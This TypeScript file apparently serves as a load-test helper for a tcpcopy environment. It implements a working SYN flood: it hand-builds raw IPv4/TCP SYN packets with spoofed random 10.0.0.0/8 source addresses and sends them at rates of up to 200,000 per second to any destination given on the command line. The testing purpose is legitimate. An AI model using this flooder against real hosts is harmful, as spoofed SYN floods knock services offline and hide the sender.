// A SYN flood from many fake sources, run with `node` inside the client namespace (hping3 is not installed):
// hand-built IPv4+TCP SYNs through a raw socket with IP_HDRINCL, each from a new random source address in
// 10.0.0.0/8 and a random port, at a fixed rate. The online host cannot answer them (it has no route to
// 10/8), so each is one connection attempt that tcpcopy sees once and nothing else follows.
//
// usage: node syn-flood.js --dst IP --port N --rate PER_S --seconds S [--seed N]
// stdout: "DONE {json}" with sent, failed, elapsedMs, achievedRate. Exit 0 unless nothing could be sent.

// raw-socket ships no typings; the part of its API used here (as core's RawSocketSink does).
interface RawSocketWrap {
  send(buf: Buffer, offset: number, length: number, address: string, cb: (bytes: number) => void): void;
}
interface RawSocket {
  wrap?: RawSocketWrap;
  setOption(level: number, option: number, value: number): void;
  pauseRecv(): RawSocket;
  on(event: string, listener: (...args: unknown[]) => void): void;
  close(): void;
}
interface RawSocketModule {
  createSocket(opts: { protocol: number; bufferSize?: number }): RawSocket;
  Protocol: { TCP: number };
  SocketLevel: { IPPROTO_IP: number };
  SocketOption: { IP_HDRINCL: number };
}

export interface SynFloodResult {
  sent: number;
  failed: number;
  elapsedMs: number;
  achievedRate: number;
  firstError: string;
}

function arg(name: string, fallback?: string): string {
  const i = process.argv.indexOf(`--${name}`);
  const v = i >= 0 ? process.argv[i + 1] : fallback;
  if (v === undefined) throw new Error(`--${name} is required`);
  return v;
}

function parseIp(text: string): number {
  const p = text.split('.').map(Number);
  if (p.length !== 4 || p.some((x) => !Number.isInteger(x) || x < 0 || x > 255)) throw new Error(`not an IPv4 address: ${text}`);
  return ((p[0] << 24) | (p[1] << 16) | (p[2] << 8) | p[3]) >>> 0;
}

/** xorshift32: reproducible sources for a given seed. */
function prng(seed: number): () => number {
  let x = seed >>> 0 || 0x9e3779b9;
  return () => {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    return x;
  };
}

function sum16(buf: Buffer, start: number, end: number, acc = 0): number {
  for (let i = start; i < end; i += 2) acc += buf.readUInt16BE(i);
  return acc;
}

function fold(acc: number): number {
  while (acc > 0xffff) acc = (acc & 0xffff) + (acc >>> 16);
  return ~acc & 0xffff;
}

const IPPROTO_RAW = 255;
const IP_LEN = 20;
const TCP_LEN = 24; // 20 + MSS option

/** Writes a SYN from src:sport to dst:dport with sequence number seq into buf (44 bytes), checksums included. */
export function buildSyn(buf: Buffer, src: number, sport: number, dst: number, dport: number, seq: number, id: number): void {
  buf.fill(0, 0, IP_LEN + TCP_LEN);
  buf[0] = 0x45;
  buf.writeUInt16BE(IP_LEN + TCP_LEN, 2);
  buf.writeUInt16BE(id & 0xffff, 4);
  buf.writeUInt16BE(0x4000, 6); // DF
  buf[8] = 64;
  buf[9] = 6;
  buf.writeUInt32BE(src, 12);
  buf.writeUInt32BE(dst, 16);
  buf.writeUInt16BE(fold(sum16(buf, 0, IP_LEN)), 10);
  const t = IP_LEN;
  buf.writeUInt16BE(sport, t);
  buf.writeUInt16BE(dport, t + 2);
  buf.writeUInt32BE(seq >>> 0, t + 4);
  buf[t + 12] = (TCP_LEN / 4) << 4;
  buf[t + 13] = 0x02; // SYN
  buf.writeUInt16BE(64240, t + 14);
  buf[t + 20] = 2; // MSS 1460
  buf[t + 21] = 4;
  buf.writeUInt16BE(1460, t + 22);
  // Pseudo-header: source, destination, protocol, TCP length.
  let acc = (src >>> 16) + (src & 0xffff) + (dst >>> 16) + (dst & 0xffff) + 6 + TCP_LEN;
  acc = sum16(buf, t, t + TCP_LEN, acc);
  buf.writeUInt16BE(fold(acc), t + 16);
}

function main(): void {
  const dstText = arg('dst');
  const dst = parseIp(dstText);
  const dport = Number(arg('port', '80'));
  const rate = Number(arg('rate'));
  const seconds = Number(arg('seconds'));
  const rand = prng(Number(arg('seed', String(Date.now() & 0x7fffffff))));
  if (!(rate > 0 && rate <= 200_000) || !(seconds > 0 && seconds <= 3600)) throw new Error('--rate 1..200000 and --seconds 1..3600');

  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const raw = require('raw-socket') as RawSocketModule;
  // IPPROTO_RAW: send-only, the IP header ours (IP_HDRINCL implied); as IPPROTO_TCP the kernel would also
  // queue every inbound TCP segment of the client host to it.
  const socket = raw.createSocket({ protocol: IPPROTO_RAW, bufferSize: 64 });
  socket.setOption(raw.SocketLevel.IPPROTO_IP, raw.SocketOption.IP_HDRINCL, 1);
  socket.pauseRecv();
  socket.on('error', () => undefined);
  const wrap = socket.wrap;
  if (!wrap) throw new Error('raw-socket addon without wrap.send');

  const buf = Buffer.alloc(IP_LEN + TCP_LEN);
  const result: SynFloodResult = { sent: 0, failed: 0, elapsedMs: 0, achievedRate: 0, firstError: '' };
  const started = performance.now();
  const endAt = started + seconds * 1000;
  const noop = (): void => undefined;
  const step = (): void => {
    const now = performance.now();
    const due = Math.floor((Math.min(now, endAt) - started) * rate / 1000);
    while (result.sent + result.failed < due) {
      const src = (0x0a000000 | (rand() & 0x00ffffff)) >>> 0; // 10.0.0.0/8
      const sport = 1024 + (rand() % (65536 - 1024));
      buildSyn(buf, src, sport, dst, dport, rand(), rand());
      try {
        wrap.send(buf, 0, buf.length, dstText, noop);
        result.sent++;
      } catch (err) {
        result.failed++;
        result.firstError ||= (err as Error).message;
        if (/temporarily unavailable|No buffer space/i.test((err as Error).message)) break; // next tick
      }
    }
    if (now < endAt) setTimeout(step, 2);
    else {
      result.elapsedMs = Math.round(now - started);
      result.achievedRate = Math.round(result.sent / (result.elapsedMs / 1000));
      socket.close();
      process.stdout.write(`DONE ${JSON.stringify(result)}\n`);
      process.exit(result.sent > 0 ? 0 : 1);
    }
  };
  step();
}

if (require.main === module) main();
